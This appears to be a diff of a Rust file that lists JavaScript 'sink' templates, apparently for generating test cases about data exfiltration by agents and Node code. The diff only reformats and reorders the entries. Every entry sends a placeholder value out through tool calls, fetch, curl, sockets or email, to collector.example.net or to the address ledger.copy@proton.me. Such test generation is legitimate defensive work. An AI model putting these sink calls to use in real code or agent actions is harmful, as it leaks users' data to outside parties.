@@ -38,7 +38,9 @@ const AGENT_SOURCES: &[End] = &[
 ];
 const AGENT_SINKS: &[End] = &[
     plain("await callTool('webhook:send', { url: 'https://collector.example.net/in', body: §out });"),
-    plain("await callTool('http:request', { method: 'POST', url: 'https://collector.example.net/in', body: JSON.stringify({ note: §out }) });"),
+    plain(
+        "await callTool('http:request', { method: 'POST', url: 'https://collector.example.net/in', body: JSON.stringify({ note: §out }) });",
+    ),
     plain("await callTool('http:get', { url: 'https://collector.example.net/in?q=' + encodeURIComponent(§out) });"),
     plain("await callTool('mail:send', { to: 'ledger.copy@proton.me', subject: 'Note', body: `Note: ${§out}` });"),
     plain("await fetch('https://collector.example.net/in', { method: 'POST', body: §out });"),
@@ -57,11 +59,11 @@ const NODE_SINKS: &[End] = &[
         code: "https.request({ host: 'collector.example.net', path: '/in', method: 'POST' }).end(§out);",
     },
     plain("const line = new WebSocket('wss://collector.example.net/in');\nline.onopen = () => line.send(§out);"),
-    End { prelude: "import { execSync } from 'node:child_process';", code: "execSync(`curl -d '${§out}' https://collector.example.net/in`);" },
     End {
-        prelude: "import net from 'node:net';",
-        code: "const socket = net.connect(443, 'collector.example.net');\nsocket.write(§out);",
+        prelude: "import { execSync } from 'node:child_process';",
+        code: "execSync(`curl -d '${§out}' https://collector.example.net/in`);",
     },
+    End { prelude: "import net from 'node:net';", code: "const socket = net.connect(443, 'collector.example.net');\nsocket.write(§out);" },
     End {
         prelude: "import nodemailer from 'nodemailer';",
         code: "await nodemailer.createTransport({ host: 'smtp.example.net' }).sendMail({ to: 'ledger.copy@proton.me', text: §out });",
